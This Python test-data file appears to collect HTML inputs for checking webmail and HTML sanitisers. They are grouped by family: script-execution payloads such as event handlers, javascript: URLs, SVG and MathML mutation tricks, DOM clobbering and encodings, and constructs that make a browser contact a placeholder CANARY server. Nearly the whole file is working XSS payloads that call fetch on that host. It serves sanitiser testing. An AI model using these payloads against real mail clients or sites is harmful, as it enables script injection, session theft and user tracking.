"""Letters that try to run a script, or to have the reader's browser ask a server.

By family, from what was published on webmails (Roundcube's advisories of 2023 to 2026)
and on sanitisers (DOMPurify's and OWASP's collections). CANARY is where a request would
arrive; a script that runs changes window.top.name, the title or the canary's list.
"""

RUN = "top.name='owned';fetch('CANARY/script')"

SCRIPTS = {
    "plain": f"<script>{RUN}</script><script src='CANARY/a.js'></script>",
    "events": f'<img src=x onerror="{RUN}"><body onload="{RUN}">'
    f'<p onpointerover="{RUN}" onfocus="{RUN}" tabindex=1 autofocus>x</p>',
    "urls": f"<a href=\"javascript:{RUN}\" id=l>x</a><a href=' java&#10;script:x'>y</a>"
    f"<a href='data:text/html,<script>{RUN}</script>'>z</a><a href='vbscript:x'>v</a>",
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>'
    "<set attributeName=href to='javascript:x'><foreignObject><iframe srcdoc='x'>"
    f"</iframe></foreignObject><use href='data:image/svg+xml,<svg onload={RUN}>'></svg>",
    "svg style": f'<svg><style><img src=x onerror="{RUN}"></style></svg>'
    f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
    "animate href": "<svg><a><animate attributeName=href values='javascript:x'/>"
    "<animate attributeName='xlink:href' begin=0s from=javascript:x to=&amp; />"
    "<text x=20 y=20>x</text></a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f"&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>",
    "mathml href": "<math href='javascript:x'>CLICK<maction actiontype='statusline#'"
    f" xlink:href='javascript:{RUN}'>x</maction></math>",
    "mutation": f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
    f"<path id='</textarea><img onerror={RUN} src=1>'></form>"
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "comments": f"<!--><img src=x onerror={RUN}>--><!--[if IE]><script>{RUN}</script>"
    f"<![endif]--><![CDATA[<img src=x onerror={RUN}>]]><?x <img src=x onerror={RUN}>?>",
    "raw text": "".join(
        f"<{tag}></{tag}x><img src=x onerror={RUN}></{tag}>"
        f"<{tag}><p title='</{tag}><img src=x onerror={RUN}>'>"
        for tag in (
            "title",
            "textarea",
            "xmp",
            "noembed",
            "noframes",
            "iframe",
            "style",
        )
    ),
    "attributes": f'<p title="x" style="" class=\'"><img src=x onerror={RUN}>\'>a</p>'
    f"<img alt='`<img src=x onerror={RUN}>' src=x><a title=\"&quot;onclick={RUN}\">b</a>",
    "frames": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data=\'data:'
    f"text/html,<script>{RUN}</script>'></object><embed src='javascript:x'><portal src=x>",
    "forms": f"<form action='javascript:{RUN}'><button id=b formaction='javascript:x'>x"
    "</button><input type=image src=x onerror=x></form><isindex action=x><keygen>",
    "base": "<base href='javascript:/a/-alert(1)//'><a href='#'>x</a>",
    "clobber": "<form id=location><img name=cookie><a id=top><a id=top name=name></form>",
    "templates": f"<template><script>{RUN}</script></template><div><template shadowrootmode"
    f"=open><img src=x onerror={RUN}></template></div><slot onslotchange={RUN}>",
    "encodings": "+ADw-script+AD4-top.name='owned'+ADw-/script+AD4-\x00<scr\x00ipt>"
    f"{RUN}</scr\x00ipt>&lt;script&gt;<scrscriptipt>{RUN}</script>",
    "deep": "<div>" * 600 + f"<img src=x onerror={RUN}>" + "<table><td>" * 300,
    "custom": f"<x onclick={RUN} is=y>x</x><details open ontoggle={RUN}>y</details>"
    f"<marquee onstart={RUN}>z</marquee><video><source onerror={RUN} src=x></video>",
}

REQUESTS = {
    "img": "<img src='CANARY/a.png'><img src='//CANARYHOST/b.png'><img srcset="
    "'CANARY/c.png 1x, CANARY/d.png 2x'><img lowsrc='CANARY/e' dynsrc='CANARY/f'>",
    "picture": "<picture><source srcset='CANARY/a'><img src=x></picture><video poster="
    "'CANARY/b' src='CANARY/c'><track src='CANARY/d'></video><audio src='CANARY/e'>",
    "background": "<body background='CANARY/a'><table background='CANARY/b'><td"
    " background='CANARY/c' style='background:url(CANARY/d)'>x</table>",
    "css urls": "<p style='background-image:url(\"CANARY/a\")'><p style='list-style:"
    "url(CANARY/b)'><p style='content:url(CANARY/c);cursor:url(CANARY/d),auto'>"
    "<p style='border-image:url(CANARY/e) 1;mask:url(CANARY/f);filter:url(CANARY/g)'>",
    "css escapes": "<p style='background:u\\72l(CANARY/a)'><p style='background:/**/url"
    "(CANARY/b)'><p style='background:URL( CANARY/c )'><p style='background-image:image-"
    "set(\"CANARY/d\" 1x)'><p style='background:-webkit-image-set(url(CANARY/e) 1x)'>"
    "<p style='--a:url(CANARY/f);background:var(--a)'><p style='background:src(\"CANARY/g\")'>",
    "style": "<style>@import 'CANARY/a';@font-face{font-family:x;src:url(CANARY/b)}"
    "p{font-family:x;background:url(CANARY/c)}</style><link rel=stylesheet href="
    "'CANARY/d'><link rel=prefetch href='CANARY/e'><link rel=dns-prefetch href='CANARY/f'>",
    "svg": "<svg><image href='CANARY/a' xlink:href='CANARY/b'/><use href='CANARY/c#x'/>"
    "<feImage href='CANARY/d'/><animate attributeName=href values='CANARY/e'/>"
    "<rect fill='url(CANARY/f#x)' mask='url(CANARY/g)' style='marker:url(CANARY/h)'/></svg>",
    "meta": "<meta http-equiv=refresh content='0;url=CANARY/a'><meta http-equiv="
    "Content-Security-Policy content=\"img-src *\"><base href='CANARY/'><img src='b.png'>",
    "frames": "<iframe src='CANARY/a'></iframe><object data='CANARY/b'><param name=movie"
    " value='CANARY/c'></object><embed src='CANARY/d'><frameset><frame src='CANARY/e'>",
    "forms": "<form action='CANARY/a' id=f><input type=image src='CANARY/b' autofocus>"
    "<button formaction='CANARY/c'>x</button></form><input type=submit form=f>",
    "ping": "<a href='#' ping='CANARY/a' attributionsrc='CANARY/b'>x</a><img"
    " attributionsrc='CANARY/c'><script src='CANARY/d'></script>",
    "quotes": "<blockquote cite='CANARY/a'>x</blockquote><q cite='CANARY/b'>y</q><del cite="
    "'CANARY/c'>z</del><body style='background:url(CANARY/d)'>",
    "fonts": "<font face='x' style='font:12px url(CANARY/a)'>x</font><p style=\"font-"
    "family:'x';src:url(CANARY/b)\">",
}
